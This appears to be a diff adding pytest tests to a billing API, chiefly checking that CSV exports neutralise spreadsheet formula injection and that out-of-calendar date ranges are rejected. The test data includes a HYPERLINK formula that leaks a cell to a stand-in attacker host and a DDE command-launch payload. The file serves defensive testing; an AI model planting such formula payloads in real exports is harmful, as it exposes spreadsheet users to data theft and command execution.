@@ -284,9 +284,102 @@ async def test_the_csv_export_holds_the_company_rows_of_the_range_oldest_first(
     assert len(everything.text.splitlines()) == 1 + 3
 
 
+FORMULAS = [
+    '=HYPERLINK("https://attacker.example/?leak="&A1,"Open")',
+    "+1+1",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tcmd",
+    "\r=1+1",
+]
+
+
+async def test_no_text_cell_of_the_csv_is_a_formula_to_a_spreadsheet(
+    billing: Stack, company: UUID
+) -> None:
+    """OWASP's rule: a text cell starting with =, +, -, @, a tab or a carriage return gets
+    a `'` before it. Ids, instants and numbers stay as they are."""
+    t0 = datetime(2025, 3, 1, 12, tzinfo=UTC)
+    harmless = ["draft-=-not-first", "'already quoted", "safe"]
+    await record(
+        billing,
+        *(
+            generated(company, at=t0 + timedelta(minutes=n), draft=draft, questions=n + 1)
+            for n, draft in enumerate(FORMULAS + harmless)
+        ),
+        generated(company, at=t0 + timedelta(hours=1), draft="model", model="=cmd|' /C calc'!A0"),
+    )
+
+    response = await billing.billing.get("/api/billing/usage.csv", headers=bearer(company))
+
+    assert response.status_code == 200
+    rows = list(csv.DictReader(io.StringIO(response.text)))
+    assert [row["draftJobId"] for row in rows] == [
+        *(f"'{draft}" for draft in FORMULAS),
+        *harmless,
+        "model",
+    ]
+    assert [row["modelUsed"] for row in rows] == ["gpt-4o"] * 9 + ["'=cmd|' /C calc'!A0"]
+    assert [row["questionCount"] for row in rows] == [*(str(n + 1) for n in range(9)), "10"]
+    assert rows[0]["cost"] == "0.0100"
+    assert all(not row["cost"].startswith("'") for row in rows)
+    # The API itself keeps the ids as they were sent: only the spreadsheet's copy is quoted.
+    page = await billing.billing_json(company, "/api/billing/usage", limit=100)
+    assert sorted(item["draftJobId"] for item in page["items"]) == sorted(
+        [*FORMULAS, *harmless, "model"]
+    )
+
+
 async def test_usage_rows_carry_their_period_and_price(billing: Stack, company: UUID) -> None:
     await record(billing, generated(company, at=datetime(2025, 1, 31, 23, 59, tzinfo=UTC)))
     body = await billing.billing_json(company, "/api/billing/usage")
     [row] = body["items"]
     assert row["period"] == "2025-01"
     assert "priceId" in row
+
+
+BEFORE_TIME = "0001-01-01T00:00:00+01:00"  # 31 December of the year 0 in UTC
+AFTER_TIME = "9999-12-31T23:30:00-01:00"  # 1 January 10000 in UTC
+
+
+@pytest.mark.parametrize(
+    "path", ["/api/billing/summary", "/api/billing/usage", "/api/billing/usage.csv"]
+)
+@pytest.mark.parametrize(
+    ("params", "field"),
+    [
+        ({"from": BEFORE_TIME}, "from"),
+        ({"to": AFTER_TIME}, "to"),
+        ({"from": BEFORE_TIME, "to": AFTER_TIME}, "from"),
+        ({"from": "2025-01-01T00:00:00Z", "to": AFTER_TIME}, "to"),
+    ],
+)
+async def test_a_range_off_the_calendar_in_utc_is_a_422_naming_the_field(
+    billing: Stack, company: UUID, path: str, params: dict[str, str], field: str
+) -> None:
+    assert field in await refused(billing, company, path, **params)
+
+
+@pytest.mark.parametrize(
+    ("params", "field"),
+    [
+        ({"from": BEFORE_TIME, "to": "0001-01-02"}, "from"),
+        ({"from": "2025-01-01", "to": AFTER_TIME}, "to"),
+        ({"from": "9999-12-01", "to": "9999-12-31"}, "to"),
+    ],
+)
+async def test_a_daily_series_off_the_calendar_is_a_422_naming_the_field(
+    billing: Stack, company: UUID, params: dict[str, str], field: str
+) -> None:
+    assert field in await refused(billing, company, "/api/billing/usage/daily", **params)
+
+
+async def test_the_first_and_last_instants_of_the_calendar_are_answered(
+    billing: Stack, company: UUID
+) -> None:
+    await record(billing, generated(company, draft="d", questions=10))
+    everything = {"from": "0001-01-01T00:00:00Z", "to": "9998-12-31T23:59:59.999999Z"}
+    body = await billing.billing_json(company, "/api/billing/summary", **everything)
+    assert body["totals"]["cost"] == "0.1000"
+    page = await billing.billing_json(company, "/api/billing/usage", **everything)
+    assert len(page["items"]) == 1
